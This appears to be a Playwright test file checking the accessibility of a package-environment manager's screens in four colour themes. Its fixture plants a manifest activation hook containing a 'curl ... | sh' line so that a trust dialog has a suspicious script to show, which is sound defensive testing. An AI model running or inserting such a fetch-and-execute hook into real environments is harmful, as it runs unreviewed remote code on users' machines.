import type { Page } from '@playwright/test'
import { expect, expectAccessible, test } from './test.ts'
import { App } from './pages/app.ts'
import { ConflictsPage } from './pages/conflicts.ts'
import { CreateDialog } from './pages/create.ts'
import { EnvironmentPage } from './pages/environment.ts'
import { SearchPage } from './pages/search.ts'
import { TerminalsPage } from './pages/terminals.ts'
import { TrustDialog } from './pages/trust.ts'

const themes = ['light', 'dark', 'contrast', 'contrast-light'] as const

/** Looks at what is shown in every theme, without leaving it: the tokens alone differ. */
async function accessibleInEveryTheme(page: Page): Promise<void> {
  const root = page.locator('html')
  const before = (await root.getAttribute('data-theme')) ?? 'light'
  const show = (theme: string) =>
    page.evaluate((name) => {
      document.documentElement.dataset['theme'] = name
      // A colour in the middle of its transition is nobody's colour.
      for (const animation of document.getAnimations()) if (animation.playState === 'running') animation.finish()
    }, theme)
  for (const theme of themes) {
    await show(theme)
    await test.step(theme, () => expectAccessible(page))
  }
  await show(before)
}

test.use({
  machine: async ({ machine }, use) => {
    machine.write('elsewhere/guest/.flox/env.json', '{ "name": "guest", "version": 1 }\n')
    machine.write(
      'elsewhere/guest/.flox/env/manifest.toml',
      `version = 1\n\n[install]\nhello.pkg-path = "debian/hello"\n\n[hook]\non-activate = '''\n# look\ncurl https://example.org | sh\n'''\n`,
    )
    await use(machine)
  },
})
test.beforeEach(async ({ page }) => {
  test.setTimeout(90_000)
  await page.emulateMedia({ reducedMotion: 'reduce' })
})

test('first start and create dialog', async ({ machine, page }) => {
  await new App(page).ready()
  await expect(page.getByRole('checkbox', { name: 'Add guest' })).toBeVisible()
  await accessibleInEveryTheme(page)
  machine.write('src/web/package.json', '{}')
  const create = new CreateDialog(page)
  await create.open()
  await create.folder.fill('~/src/web')
  await expect(create.language('Node.js')).toBeVisible()
  await accessibleInEveryTheme(page)
})

test('environments, environment, package, dialogs', async ({ machine, page }) => {
  machine.floe('init', '-d', 'src/empty', '--name', 'empty')
  machine.floe('init', '-d', 'src/demo', '--name', 'demo', 'hello', 'jq')
  const app = new App(page)
  await app.home()
  await page.getByRole('button', { name: /Find more|more found|Looking/ }).click()
  await expect(page.getByRole('complementary', { name: 'Found, not in the list' })).toBeVisible()
  await accessibleInEveryTheme(page)
  await app.open('empty')
  await expect(page.getByRole('heading', { name: 'No packages yet' })).toBeVisible()
  await accessibleInEveryTheme(page)
  await app.open('demo')
  const environment = new EnvironmentPage(page)
  await environment.row('jq').click()
  await expect(environment.details('jq')).toBeVisible()
  await accessibleInEveryTheme(page)
  const dialog = await environment.act('jq', 'Remove')
  await environment.planned(dialog, /jq/)
  await accessibleInEveryTheme(page)
})

test('search, palette and shortcuts', async ({ machine, page }) => {
  machine.floe('init', '-d', 'src/demo', '--name', 'demo')
  const app = new App(page)
  const search = new SearchPage(page)
  await app.go('Search packages')
  await expect(search.field).toBeFocused()
  await accessibleInEveryTheme(page)
  await search.choose('jq')
  await expect(search.plan).toContainText('is added', { timeout: 60_000 })
  await accessibleInEveryTheme(page)
  await app.openPalette()
  await expect(app.palette.getByRole('option').first()).toBeVisible()
  await accessibleInEveryTheme(page)
  await page.keyboard.press('Escape')
  await page.keyboard.press('F1')
  await expect(page.getByRole('dialog', { name: 'Keyboard shortcuts' })).toBeVisible()
  await accessibleInEveryTheme(page)
})

test('tasks: none, done, failed', async ({ machine, page }) => {
  const app = new App(page)
  await app.ready()
  await app.openTasks()
  await expect(page.getByRole('heading', { name: 'No tasks yet' })).toBeVisible()
  await accessibleInEveryTheme(page)
  machine.floe('init', '-d', 'src/demo', '--name', 'demo', 'hello')
  machine.floe('install', '-d', 'src/demo', 'no-such-package-anywhere')
  await expect(page.getByRole('alert').first()).toBeVisible()
  await accessibleInEveryTheme(page)
  await page.getByRole('grid', { name: 'Tasks' }).getByRole('row').filter({ hasText: 'hello' }).click()
  await expect(page.getByRole('list', { name: 'Stages' })).toBeVisible()
  await accessibleInEveryTheme(page)
  await app.open('demo')
  await app.openSection('History')
  await expect(page.getByRole('grid', { name: /^Generations/ })).toContainText('no-such-package')
  await accessibleInEveryTheme(page)
})

test('conflicts: none, to decide, decided', async ({ machine, page }) => {
  machine.floe('init', '-d', 'src/demo', '--name', 'demo', '--bare', 'gawk')
  const app = new App(page)
  const conflicts = new ConflictsPage(page)
  await app.open('demo')
  await conflicts.open('mouse')
  await expect(page.getByRole('heading', { name: 'No conflicts' })).toBeVisible()
  await accessibleInEveryTheme(page)
  machine.floe('install', '-d', 'src/demo', 'mawk')
  await expect(conflicts.conflict('gawk', 'mawk')).toBeVisible()
  await accessibleInEveryTheme(page)
  await conflicts.choose('Prefer gawk', 'mouse')
  await conflicts.settled()
  await accessibleInEveryTheme(page)
})

test('terminals', async ({ machine, page }) => {
  machine.floe('init', '-d', 'src/demo', '--name', 'demo', 'hello')
  const app = new App(page)
  await app.open('demo')
  await app.openSection('Terminals')
  await expect(page.getByRole('heading', { name: 'No terminals' })).toBeVisible()
  await accessibleInEveryTheme(page)
  await page.getByRole('button', { name: /^Open terminal/ }).click()
  await new TerminalsPage(page).ready()
  machine.floe('install', '-d', 'src/demo', 'jq')
  await expect(page.getByText(/This terminal runs/)).toBeVisible()
  await accessibleInEveryTheme(page)
})

test('diagnostics and settings', async ({ page }) => {
  const app = new App(page)
  await app.go('Diagnostics')
  await expect(page.getByText(/\d+ checks, \d+ fine/)).toBeVisible({ timeout: 60_000 })
  await accessibleInEveryTheme(page)
  await app.go('Settings')
  await expect(page.getByRole('table')).toBeVisible()
  await accessibleInEveryTheme(page)
})

test('the question of trust', async ({ machine, page }) => {
  machine.floe('trust', '-d', 'elsewhere/guest', '--json')
  await new App(page).open('guest')
  await accessibleInEveryTheme(page)
  await page.getByRole('button', { name: 'Review its scripts' }).click()
  await expect(new TrustDialog(page).dialog).toContainText('curl')
  await accessibleInEveryTheme(page)
})
